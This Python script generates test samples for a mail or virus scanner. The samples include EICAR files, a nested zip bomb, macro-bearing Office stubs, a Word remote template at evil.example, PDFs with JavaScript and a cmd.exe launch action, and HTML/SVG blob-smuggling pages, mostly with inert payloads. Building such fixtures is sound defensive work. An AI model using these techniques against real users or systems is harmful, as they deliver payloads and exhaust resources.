#!/usr/bin/env python3
# SPDX-License-Identifier: ISC
"""scan_files.py NAME...: writes these files; scan_files.py --mail NAME...: a
message with them, or with files of that name, as attachments.  They are made
here since files that virus scanners mind have no place in a repository."""
import base64
import io
import os
import struct
import sys
import tarfile
import zipfile
import zlib

EICAR = (b'X5O!P%@AP[4\\PZX54(P^)7CC)7}$'
         b'EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*')


def pack(*files):
    out = io.BytesIO()
    with zipfile.ZipFile(out, 'w', zipfile.ZIP_DEFLATED) as z:
        for name, octets in files:
            z.writestr(name, octets)
    return out.getvalue()


def tar_gz(*files):
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode='w:gz') as t:
        for name, octets in files:
            info = tarfile.TarInfo(name)
            info.size = len(octets)
            t.addfile(info, io.BytesIO(octets))
    return out.getvalue()


def encrypted_zip():
    octets = bytearray(pack(('secret.txt', b'0123456789ab' * 3)))
    at = octets.find(b'PK\1\2')
    octets[6] |= 1
    octets[at + 8] |= 1
    return bytes(octets)


def ole2(*entries, clsid=bytes(16), book=b''):
    """[MS-CFB]: head, one sector of the table, one of the directory for each
    four entries, then the workbook in sectors of its own."""
    names = ['Root Entry', *entries]
    directories = (len(names) + 3) // 4
    book += bytes(-len(book) % 512)
    book_at = 1 + directories
    sectors = book_at + len(book) // 512
    table = [0xfffffffd]
    for first, last in ((1, book_at), (book_at, sectors)):
        table += range(first + 1, last)
        if last > first:
            table.append(0xfffffffe)
    table += [0xffffffff] * (128 - len(table))
    head = struct.pack(
        '<8s16sHHHHH6sIIIIIIIIII', b'\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1',
        bytes(16), 62, 3, 0xfffe, 9, 6, bytes(6), 0, 1, 1, 0, 4096,
        0xfffffffe, 0, 0xfffffffe, 0, 0)
    head += b'\xff' * (512 - len(head))
    out = bytearray(head + struct.pack('<128I', *table))
    for i in range(directories * 4):
        entry = bytearray(128)
        if i < len(names):
            name = names[i].encode('utf-16-le') + b'\0\0'
            entry[:len(name)] = name
            entry[64:66] = struct.pack('<H', len(name))
            entry[66] = 5 if i == 0 else 2
            if i == 0:
                entry[80:96] = clsid
            if names[i] == 'Workbook':
                entry[116:124] = struct.pack('<II', book_at, len(book))
        out += entry
    return bytes(out + book)


def biff(*records):
    octets = b''.join(struct.pack('<HH', kind, len(data)) + data
                      for kind, data in records)
    return octets + bytes(max(0, 4096 - len(octets)))


def pdf(objects, inside=b''):
    text = b'%PDF-1.5\n1 0 obj\n<< /Type /Catalog ' + objects + b'>>\nendobj\n'
    if inside:
        stream = zlib.compress(inside)
        text += (b'2 0 obj\n<< /Type /ObjStm /N 1 /First 4 /Filter '
                 b'/FlateDecode /Length %d >>\nstream\n' % len(stream)
                 + stream + b'\nendstream\nendobj\n')
    return text + b'trailer << /Root 1 0 R >>\n%%EOF\n'


def bomb():
    octets = pack(('0', bytes(20_000_000)))
    for _ in range(5):
        octets = pack(*((f'{i}.zip', octets) for i in range(16)))
    return octets


def deep():
    octets = pack(('a.txt', b'x'))
    for i in range(20):
        octets = pack((f'{i}.zip', octets))
    return octets


def tnef(name, long_name, octets):
    """[MS-OXTNEF]: an attachment with its name of old and its long one."""
    def attribute(level, kind, data):
        return (struct.pack('<BII', level, kind, len(data)) + data +
                struct.pack('<H', sum(data) & 0xffff))
    wide = long_name.encode('utf-16-le') + b'\0\0'
    property_ = (struct.pack('<IHHII', 1, 0x1f, 0x3707, 1, len(wide)) + wide +
                 bytes(-len(wide) % 4))
    return (struct.pack('<IH', 0x223e9f78, 1) +
            attribute(1, 0x00089006, struct.pack('<I', 0x10000)) +
            attribute(2, 0x00069002, struct.pack('<HIHHI', 1, 0xffffffff,
                                                 0, 0, 0)) +
            attribute(2, 0x00018010, name + b'\0') +
            attribute(2, 0x0006800f, octets) +
            attribute(2, 0x00069005, property_))


def vint(n):
    out = b''
    while n > 127:
        out += bytes([n & 127 | 128])
        n >>= 7
    return out + bytes([n])


def rar5(*blocks):
    """RAR 5.0: blocks of (type, flags, fields, extra area, data)."""
    out = b'Rar!\x1a\7\1\0'
    for kind, flags, fields, extra, data in blocks:
        flags |= (1 if extra else 0) | (2 if data else 0)
        head = (vint(kind) + vint(flags) +
                (vint(len(extra)) if extra else b'') +
                (vint(len(data)) if data else b'') + fields + extra)
        head = vint(len(head)) + head
        out += struct.pack('<I', zlib.crc32(head)) + head + data
    return out


def rar5_file(name, data, extra=b''):
    return (2, 0, vint(4) + vint(len(data)) + vint(32) +
            struct.pack('<I', zlib.crc32(data)) + vint(0) + vint(0) +
            vint(len(name)) + name, extra, data)


RAR5_MAIN = (1, 0, vint(0), b'', b'')
RAR5_END = (5, 0, vint(0), b'', b'')
AES = vint(36) + vint(1) + vint(0) + vint(0) + b'\x0f' + bytes(32)


def message(name, octets):
    return (b'Received: by x\r\n\tfor y\r\nMIME-Version: 1.0\r\n'
            b'Content-Type: multipart/mixed; boundary=b\r\n\r\n--b\r\n'
            b'Content-Type: application/octet-stream; name=' + name +
            b'\r\nContent-Transfer-Encoding: base64\r\n\r\n' +
            base64.encodebytes(octets) + b'--b--\r\n')


def onenote(*files):
    """[MS-ONESTORE]: the head, and packaged files."""
    out = bytes.fromhex('e4525c7b8cd8a74daeb15378d02996d3') + bytes(1008)
    for octets in files:
        out += (bytes.fromhex('e716e3bd65261145a4c48d4d0b7a9eac') +
                struct.pack('<Q', len(octets)) + bytes(12) + octets)
    return out


def smuggler(maker):
    return (b'<html><body><script>var b = atob("UEsDBA=="); '
            b'var u = new Uint8Array(b.length); for (var i in b) '
            b'u[i] = b.charCodeAt(i); a.href = ' + maker +
            b'</script></body></html>')


INSTALLER = bytes.fromhex('84100c0000000000c000000000000046')
SHEET = (0x85, struct.pack('<IBB', 0, 0, 0) + b'\2\0ab')
MACRO_SHEET = (0x85, struct.pack('<IBB', 0, 0, 1) + b'\2\0ab')
HEAD = (0x809, bytes(16))
FILES = {
    'eicar.com': lambda: EICAR,
    'eicar.zip': lambda: pack(('in/eicar.txt', EICAR)),
    'eicar.tar.gz': lambda: tar_gz(('eicar.txt', EICAR)),
    'plain.zip': lambda: pack(('a.txt', b'hello'), ('b/c.txt', b'x' * 999)),
    'nested.zip': lambda: pack(
        ('inner.zip', pack(('invoice.pdf.exe', b'MZ' + bytes(100)))),
        ('read me.txt', b'hello')),
    'encrypted.zip': encrypted_zip,
    'cut.zip': lambda: pack(('a.bin', bytes(range(256)) * 90))[:400],
    'bomb.zip': bomb,
    'deep.zip': deep,
    'flat.gz': lambda: zlib.compress(b'a' * 100_000_000, 9, 31),
    'files.zip': lambda: pack(*((f'{i}', b'') for i in range(3000))),
    'macro.docm': lambda: pack(
        ('[Content_Types].xml', b'<Types/>'),
        ('word/vbaProject.bin', ole2('VBA', '_VBA_PROJECT'))),
    'plain.docx': lambda: pack(('[Content_Types].xml', b'<Types/>'),
                               ('word/document.xml', b'<document/>')),
    'remote.docx': lambda: pack(
        ('[Content_Types].xml', b'<Types/>'),
        ('word/_rels/settings.xml.rels',
         b'<Relationship Type="http://schemas.openxmlformats.org/'
         b'officeDocument/2006/relationships/attachedTemplate" '
         b'Target="http://evil.example/x.dotm" TargetMode="External"/>')),
    'macro.doc': lambda: ole2('WordDocument', 'Macros', '_VBA_PROJECT'),
    'plain.doc': lambda: ole2('WordDocument', '1Table'),
    'locked.docx': lambda: ole2('EncryptionInfo', 'EncryptedPackage'),
    'setup.msi': lambda: ole2('x', clsid=INSTALLER),
    'package.doc': lambda: ole2('WordDocument', '\x01Ole10Native'),
    'plain.xls': lambda: ole2('Workbook', book=biff(HEAD, SHEET)),
    'xlm.xls': lambda: ole2('Workbook', book=biff(HEAD, SHEET, MACRO_SHEET)),
    'locked.xls': lambda: ole2('Workbook', book=biff(HEAD, (0x2f, b'\0' * 6))),
    'plain.pdf': lambda: pdf(b'/Pages 3 0 R'),
    'script.pdf': lambda: pdf(b'/OpenAction << /S /JavaScript /JS (x) >>'),
    'escaped.pdf': lambda: pdf(b'/AA << /S /J#61vaScr#69pt >>'),
    'launch.pdf': lambda: pdf(b'/OpenAction << /S /Launch /F (cmd.exe) >>'),
    'hidden.pdf': lambda: pdf(b'/OpenAction 4 0 R',
                              b'4 0 << /S /JavaScript /JS (app.alert(1)) >>'),
    'packed.pdf': lambda: pdf(b'/Pages 3 0 R', b'4 0 << /Type /Page >>'),
    'link.lnk': lambda: b'L\0\0\0\1\x14\2\0' + bytes(100),
    'link.txt': lambda: b'[InternetShortcut]\r\nURL=http://example.org/\r\n',
    'disk.txt': lambda: bytes(0x8001) + b'CD001' + bytes(100),
    'run.txt': lambda: b'#!/bin/sh\nexit\n',
    'note.txt': lambda: b'only a note\n',
    'winmail.dat': lambda: tnef(b'INVOIC~1.EXE', 'invoice.pdf.exe',
                                b'MZ' + bytes(100)),
    'packed.dat': lambda: tnef(b'a.zip', 'a.zip', pack(('eicar', EICAR))),
    'cut.dat': lambda: tnef(b'a.exe', 'a.exe', b'MZ' + bytes(100))[:-80],
    'letter.bin': lambda: message(b'a.pdf.exe', b'MZ' + bytes(50)),
    'letter.zip': lambda: pack(('x.eml', message(
        b'b.zip', pack(('run.js', b'1'))))),
    'plain.eml': lambda: message(b'a.txt', b'only a note\n'),
    'plain5.rar': lambda: rar5(RAR5_MAIN, rar5_file(
        b'a.exe', b'MZ' + bytes(20)), RAR5_END),
    'locked5.rar': lambda: rar5(RAR5_MAIN, rar5_file(b'a.txt', b'x'),
                                rar5_file(b's.txt', bytes(16), AES),
                                RAR5_END),
    'sealed5.rar': lambda: rar5(
        (4, 0, vint(0) + vint(0) + b'\x0f' + bytes(16), b'', b'')) +
        bytes(range(96)),
    'fetch.rtf': lambda: br'{\rtf1{\*\template http://a.example/x.dotm}x}',
    'share.rtf': lambda: br'{\rtf1{\*\template \\\\host\\a.dotm}x}',
    'own.rtf': lambda: br'{\rtf1{\*\template C:\\A\\Normal.dotm}http://x}',
    'object.rtf': lambda: br'{\rtf1{\object\objemb{\*\objdata 0105}}}',
    'picture.one': lambda: onenote(b'\x89PNG' + bytes(50)),
    'program.one': lambda: onenote(b'\x89PNG' + bytes(50), b'MZ' + bytes(9)),
    'page.one': lambda: onenote(b'<html><HTA:APPLICATION><script>1'),
    'blob.html': lambda: smuggler(b'URL.createObjectURL(new Blob([u]));'),
    'wide.html': lambda: b'\xff\xfe' + smuggler(
        b'URL.createObjectURL(new Blob([u]));').decode().encode('utf-16-le'),
    'saved.html': lambda: b'<html><a download="a.zip" '
                          b'href="data:application/zip;base64,UEsDBA==">',
    'blob.svg': lambda: b'<svg onload="' + smuggler(
        b"window['Blob']([u])").replace(b'"', b"'") + b'"/>',
    'invoice.txt': lambda: b'<job><script language="JScript">1</script></job>',
    'photo.jpg': lambda: b'var s = new ActiveXObject("WScript.Shell");',
    'words.txt': lambda: b'how to CreateObject a WScript.Shell, by <job>',
    'script.html': lambda: b'<html><script>var base64 = 1;</script>',
    'click.svg': lambda: b'<svg><a OnBegin = "location=1">x</a></svg>',
    'text.html': lambda: b'<html><p>onload=1 createObjectURL atob</html>',
    'fixed.bin': lambda: bytes(4096) + b'conectix' + bytes(504),
    'fruit.bin': lambda: bytes(4096) + b'koly' + bytes(508),
    'behind.gif.bin': lambda: b'GIFT' * 99 + pack(('a.exe', b'MZ')),
    'old.ace': lambda: bytes(7) + b'**ACE**' + bytes(50),
    'office.mso': lambda: b'ActiveMime' + bytes(50),
}


def octets_of(name):
    if name in FILES:
        return FILES[name]()
    with open(name, 'rb') as f:
        return f.read()


def mail(names):
    out = ['From: a@example.org', 'Subject: files', 'MIME-Version: 1.0',
           'Content-Type: multipart/mixed; boundary=b', '', '--b', '', 'x']
    for name in names:
        out += ['--b', 'Content-Type: application/octet-stream',
                f'Content-Disposition: attachment; '
                f'filename="{os.path.basename(name)}"',
                'Content-Transfer-Encoding: base64', '',
                base64.encodebytes(octets_of(name)).decode()]
    return '\n'.join(out + ['--b--', '']).encode()


if sys.argv[1] == '--mail':
    sys.stdout.buffer.write(mail(sys.argv[2:]))
else:
    for name in sys.argv[1:]:
        with open(name, 'wb') as f:
            f.write(FILES[name]())
